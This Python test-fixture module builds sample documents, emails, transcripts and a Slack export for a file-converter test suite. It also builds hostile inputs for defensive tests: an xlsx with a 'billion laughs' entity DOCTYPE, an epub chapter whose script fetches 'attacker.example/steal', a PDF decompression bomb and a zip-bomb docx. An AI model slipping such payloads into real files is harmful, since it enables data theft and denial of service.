"""Real originals made by the real tools, for the converter tests: a docx written by
python-docx, a PDF by fpdf2, a deck by python-pptx, a workbook by openpyxl, a book by
ebooklib, email by the standard library's ``email``/``mailbox``, transcripts and a Slack
export as their tools write them, and an Outlook message saved by Outlook (``MSG``: no
library writes one; ``samples/README.md`` says where it comes from)."""

from __future__ import annotations

import datetime as dt
import email.utils
import json
import mailbox
import zipfile
from email.message import EmailMessage
from pathlib import Path

VTT = """WEBVTT

NOTE Globex weekly sync

00:00:01.000 --> 00:00:04.000
<v Alice Chen>Welcome everyone, this is the Globex pilot sync.</v>

00:00:04.500 --> 00:00:09.000
<v Bob Martinez>The Pueblo warehouse goes live with the tracking link on October 5.</v>

00:00:09.500 --> 00:00:12.000
<v Bob Martinez>We also need twelve more driver tablets.</v>

00:00:12.500 --> 00:00:15.000
<v Alice Chen>Great. <private>Bob's bonus depends on it.</private></v>
"""

MSG = Path(__file__).parent / "samples" / "outer.msg"

SRT = """1
00:00:01,000 --> 00:00:04,000
Priya Shah: Kestrel routing beta starts for Initech on November 3.

2
00:00:04,500 --> 00:00:08,000
Tom Becker: I will own the Kestrel rollout checklist.
"""


def write_docx(
    path: Path, *, author: str = "Maria Lopez", created: dt.datetime | None = None
) -> Path:
    import docx

    document = docx.Document()
    document.core_properties.author = author
    document.core_properties.title = "Falcon warehouse handbook"
    document.core_properties.created = created or dt.datetime(2026, 8, 3, 9, 0)
    document.add_heading("Falcon warehouse handbook", level=1)
    document.add_paragraph("The Falcon warehouse in Aurora opens every weekday at 06:30.")
    document.add_heading("Safety", level=2)
    document.add_paragraph("Forklift drivers renew their Falcon safety badge each March.")
    document.save(str(path))
    return path


def write_pdf(path: Path, *, pages: int = 1, password: str | None = None) -> Path:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_author("Tom Becker")
    pdf.set_title("Osprey integration report")
    pdf.set_creation_date(dt.datetime(2026, 10, 12, 8, 0, tzinfo=dt.UTC))
    if password is not None:
        pdf.set_encryption(owner_password="owner-secret", user_password=password)
    pdf.set_font("helvetica", size=12)
    for number in range(1, pages + 1):
        pdf.add_page()
        pdf.cell(text=f"Osprey report page {number}", new_x="LMARGIN", new_y="NEXT")
        pdf.multi_cell(
            w=0,
            text="The Osprey integration with Globex passed its load test at 900 trucks. "
            * (1 if pages == 1 else 40),
        )
    pdf.output(str(path))
    return path


def write_pptx(path: Path) -> Path:
    from pptx import Presentation

    deck = Presentation()
    deck.core_properties.author = "Priya Shah"
    deck.core_properties.title = "Heron pricing review"
    deck.core_properties.created = dt.datetime(2026, 9, 30, 10, 0)
    slide = deck.slides.add_slide(deck.slide_layouts[1])
    slide.shapes.title.text = "Heron pricing review"
    slide.placeholders[1].text = "Heron per-seat price rises to $14 from January."
    deck.save(str(path))
    return path


def write_xlsx(path: Path) -> Path:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.properties.creator = "Alex Kim"
    workbook.properties.title = "Kite fleet costs"
    workbook.properties.created = dt.datetime(2026, 9, 15, 9, 0)
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "Q4 budget"
    sheet.append(["Item", "Owner", "Amount (USD)", "Due"])
    sheet.append(["Kite van leases", "Alex Kim", 36000, dt.date(2026, 12, 1)])
    sheet.append(["Kite fuel cards", "Maria Lopez", 8200.0, None])
    workbook.create_sheet("Empty")
    workbook.save(str(path))
    return path


def xlsx_with_entities(path: Path) -> Path:
    """openpyxl's workbook with an entity-expansion ("billion laughs") DOCTYPE put before
    its sheet's XML by hand (no spreadsheet program writes one)."""
    real = zipfile.ZipFile(write_xlsx(path.with_suffix(".real.xlsx")))
    laughs = b'<!DOCTYPE s [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    with zipfile.ZipFile(path, "w") as out:
        for info in real.infolist():
            data = real.read(info)
            out.writestr(info, laughs + data if info.filename.endswith("sheet1.xml") else data)
    return path


def write_epub(path: Path) -> Path:
    from ebooklib import epub

    book = epub.EpubBook()
    book.set_identifier("urn:uuid:kite-driver-manual")
    book.set_title("Kite driver manual")
    book.set_language("en")
    book.add_author("Priya Shah")
    book.add_metadata("DC", "date", "2026-06-15")
    chapter = epub.EpubHtml(title="Returns", file_name="returns.xhtml", lang="en")
    chapter.content = (
        "<html><body><h1>Returns</h1><p>Kite drivers return the van keys to the Aurora "
        "depot by 19:00.</p><script>fetch('https://attacker.example/steal')</script>"
        '<img src="https://tracker.example/pixel.png"/></body></html>'
    )
    book.add_item(chapter)
    book.toc = [chapter]
    book.add_item(epub.EpubNcx())
    book.add_item(epub.EpubNav())
    book.spine = ["nav", chapter]
    epub.write_epub(str(path), book)
    return path


def message(
    subject: str,
    sender: str,
    to: str,
    day: dt.datetime,
    body: str,
    ident: str,
    reply_to: str | None = None,
    sensitivity: str | None = None,
) -> EmailMessage:
    msg = EmailMessage()
    msg["Subject"] = subject
    msg["From"] = sender
    msg["To"] = to
    msg["Date"] = email.utils.format_datetime(day)
    msg["Message-ID"] = ident
    if reply_to is not None:
        msg["In-Reply-To"] = reply_to
        msg["References"] = reply_to
    if sensitivity is not None:
        msg["Sensitivity"] = sensitivity
    msg.set_content(body)
    return msg


def budget_thread() -> list[EmailMessage]:
    day = dt.datetime(2026, 10, 14, 9, 30, tzinfo=dt.UTC)
    first = message(
        "Plover budget",
        "Alex Kim <alex@acme.example>",
        "Maria Lopez <maria@acme.example>",
        day,
        "Maria, the Plover project needs a budget of $48,000 for Q1.\n",
        "<plover-1@acme.example>",
    )
    reply = message(
        "Re: Plover budget",
        "Maria Lopez <maria@acme.example>",
        "Alex Kim <alex@acme.example>",
        day + dt.timedelta(hours=3),
        "Approved: the Plover budget is $48,000.\n\n"
        "On Wed, Alex Kim wrote:\n> Maria, the Plover project needs a budget\n",
        "<plover-2@acme.example>",
        reply_to="<plover-1@acme.example>",
    )
    return [first, reply]


def write_eml(path: Path, msg: EmailMessage) -> Path:
    path.write_bytes(msg.as_bytes())
    return path


def write_mbox(path: Path) -> Path:
    box = mailbox.mbox(str(path))
    for msg in budget_thread():
        box.add(msg)
    box.add(
        message(
            "Wren offsite",
            "Tom Becker <tom@acme.example>",
            "Team <team@acme.example>",
            dt.datetime(2026, 11, 2, 8, 0, tzinfo=dt.UTC),
            "The Wren offsite is in Ulaanbaatar on December 4.\n",
            "<wren-1@acme.example>",
        )
    )
    box.add(
        message(
            "Salaries",
            "Maria Lopez <maria@acme.example>",
            "Alex Kim <alex@acme.example>",
            dt.datetime(2026, 11, 3, 8, 0, tzinfo=dt.UTC),
            "Alex's salary rises to 9,000.\n",
            "<salary-1@acme.example>",
            sensitivity="Private",
        )
    )
    box.flush()
    box.close()
    return path


def _ts(day: dt.datetime) -> str:
    return f"{day.timestamp():.6f}"


def slack_export(root: Path) -> Path:
    """An export folder: users, channels, two days of #ops with a thread whose last reply
    is written the next day, a mention, and a <private> span as Slack escapes it."""
    root.mkdir(parents=True, exist_ok=True)
    users = [
        {
            "id": "U1",
            "name": "priya",
            "real_name": "Priya Shah",
            "profile": {"real_name": "Priya Shah"},
        },
        {"id": "U2", "name": "tom", "profile": {"real_name": "Tom Becker"}},
    ]
    (root / "users.json").write_text(json.dumps(users), encoding="utf-8")
    (root / "channels.json").write_text(json.dumps([{"id": "C1", "name": "ops"}]), encoding="utf-8")
    (root / "ops").mkdir()
    start = dt.datetime(2026, 10, 20, 8, 2, tzinfo=dt.UTC)
    parent = _ts(start)
    day1 = [
        {"type": "message", "user": "U1", "ts": parent, "thread_ts": parent,
         "text": "The Magpie depot moves to Denver on November 9. <@U2> can you confirm?"},
        {"type": "message", "user": "U2", "ts": _ts(start + dt.timedelta(minutes=5)),
         "thread_ts": parent, "text": "Confirmed, Magpie moves on November 9."},
        {"type": "message", "user": "U2", "ts": _ts(start + dt.timedelta(hours=2)),
         "text": "Lunch order &lt;private&gt;my card is 4111&lt;/private&gt; is in."},
    ]  # fmt: skip
    day2 = [
        {"type": "message", "user": "U1", "ts": _ts(start + dt.timedelta(days=1)),
         "thread_ts": parent, "text": "Movers booked for Magpie."},
        {"type": "message", "user": "U1", "ts": _ts(start + dt.timedelta(days=1, hours=1)),
         "text": "Magpie inventory count is Friday."},
    ]  # fmt: skip
    (root / "ops" / "2026-10-20.json").write_text(json.dumps(day1), encoding="utf-8")
    (root / "ops" / "2026-10-21.json").write_text(json.dumps(day2), encoding="utf-8")
    return root


def slack_export_of(
    root: Path,
    users: dict[str, str],
    channel: str,
    messages: list[tuple[str, dt.datetime, str]],
) -> Path:
    """An export folder of one channel: ``users`` (id -> real name) and ``messages``
    (user id, when, text) filed by their UTC day, as Slack writes them."""
    root.mkdir(parents=True, exist_ok=True)
    rows = [{"id": u, "name": n.split()[0].lower(), "real_name": n} for u, n in users.items()]
    (root / "users.json").write_text(json.dumps(rows), encoding="utf-8")
    (root / "channels.json").write_text(
        json.dumps([{"id": "C9", "name": channel}]), encoding="utf-8"
    )
    days: dict[str, list[dict[str, str]]] = {}
    for user, when, text in messages:
        day = when.astimezone(dt.UTC).date().isoformat()
        days.setdefault(day, []).append(
            {"type": "message", "user": user, "ts": _ts(when), "text": text}
        )
    (root / channel).mkdir(exist_ok=True)
    for day, rows_of_day in days.items():
        (root / channel / f"{day}.json").write_text(json.dumps(rows_of_day), encoding="utf-8")
    return root


def zip_folder(folder: Path, path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for file in sorted(folder.rglob("*")):
            if file.is_file():
                archive.write(file, f"{folder.name}/{file.relative_to(folder).as_posix()}")
    return path


def pdf_bomb(path: Path, unpacked: int = 300 * 1024 * 1024) -> Path:
    """A one-page PDF whose content stream is ``unpacked`` bytes of spaces deflated to
    a few hundred KB (written by hand: no PDF library writes a bomb)."""
    import zlib

    packer = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    packed = b"".join(packer.compress(chunk) for _ in range(unpacked // len(chunk)))
    packed += packer.flush()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    path.write_bytes(bytes(out))
    return path


def zip_bomb_docx(path: Path, unpacked: int = 300 * 1024 * 1024) -> Path:
    """A .docx whose document.xml is ``unpacked`` bytes of spaces (deflated, ~300 KB)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            chunk = b" " * (1024 * 1024)
            for _ in range(unpacked // len(chunk)):
                member.write(chunk)
    return path
